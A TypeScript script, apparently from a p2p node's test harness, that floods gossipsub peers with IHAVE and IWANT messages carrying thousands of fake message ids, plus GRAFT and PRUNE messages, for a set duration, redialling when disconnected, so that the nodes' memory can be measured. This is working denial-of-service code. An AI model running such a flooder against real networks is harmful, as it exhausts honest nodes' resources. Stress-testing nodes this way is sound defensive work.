/**
 * A gossipsub control-message flooder, run as its own process (`tsx controlFlooder.ts <chainId>
 * <durationMs> <multiaddr>…`), so that the honest nodes' memory is measured apart from the
 * attacker's and so that it can run inside a network namespace, from an address of its own. It
 * connects to every target and, for `durationMs`, sends each of them rounds of IHAVE (5,000 made-up
 * message ids per topic), IWANT (5,000 made-up ids), GRAFT and PRUNE of both topics, redialling
 * whenever it was disconnected. It prints one JSON line of figures and exits.
 */
import { randomBytes } from "node:crypto";
import { HostilePeer } from "./hostilePeer.js";

const [chainId, durationText, ...targets] = process.argv.slice(2);
const durationMs = Number(durationText);
if (!chainId || !Number.isFinite(durationMs) || targets.length === 0) {
  process.stderr.write("usage: controlFlooder <chainId> <durationMs> <multiaddr>...\n");
  process.exit(2);
}
// the flood stops on its own even if the parent never stops it
const deadline = Date.now() + durationMs;
const ROUND_MS = 50;
const MAX_ROUNDS = Math.ceil(durationMs / ROUND_MS) + 1;
const IDS = 5_000;

// made-up message ids, drawn once: a round costs the attacker little and the nodes a full decode
const POOLS = Array.from({ length: 8 }, () => Array.from({ length: IDS }, () => new Uint8Array(randomBytes(20))));
let nextPool = 0;
const ids = (): Uint8Array[] => POOLS[nextPool++ % POOLS.length]!;
const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));

const peer = await HostilePeer.create(chainId);
const peerIds = targets.map((t) => t.slice(t.lastIndexOf("/p2p/") + 5));
const figures = { rounds: 0, rpcsSent: 0, rpcsRefused: 0, dials: 0, dialFailures: 0, ihaveIds: 0, iwantIds: 0, grafts: 0, prunes: 0, connectedAtEnd: 0 };

async function ensureConnected(i: number): Promise<boolean> {
  if (peer.isConnectedTo(peerIds[i]!)) return true;
  figures.dials++;
  try {
    await peer.dial(targets[i]!);
    return true;
  } catch {
    figures.dialFailures++;
    return false;
  }
}

let lastDial = 0;
for (let round = 0; round < MAX_ROUNDS && Date.now() < deadline; round++) {
  const redial = Date.now() - lastDial > 1_000;
  if (redial) lastDial = Date.now();
  for (let i = 0; i < targets.length; i++) {
    if (!peer.isConnectedTo(peerIds[i]!) && (!redial || !(await ensureConnected(i)))) continue;
    const id = peerIds[i]!;
    const topics = [peer.topic("tx"), peer.topic("block")];
    const control =
      round % 2 === 0
        ? { ihave: topics.map((topicID) => ({ topicID, messageIDs: ids() })), iwant: [{ messageIDs: ids() }], graft: topics.map((topicID) => ({ topicID })) }
        : { ihave: topics.map((topicID) => ({ topicID, messageIDs: ids() })), prune: topics.map((topicID) => ({ topicID, peers: [] as never[], backoff: 0 })) };
    if (peer.sendControl(id, control)) {
      figures.rpcsSent++;
      figures.ihaveIds += 2 * IDS;
      if ("iwant" in control) {
        figures.iwantIds += IDS;
        figures.grafts += 2;
      } else figures.prunes += 2;
    } else figures.rpcsRefused++;
  }
  figures.rounds++;
  await sleep(ROUND_MS);
}
figures.connectedAtEnd = peerIds.filter((id) => peer.isConnectedTo(id)).length;
process.stdout.write(`${JSON.stringify(figures)}\n`);
await peer.stop();
process.exit(0);
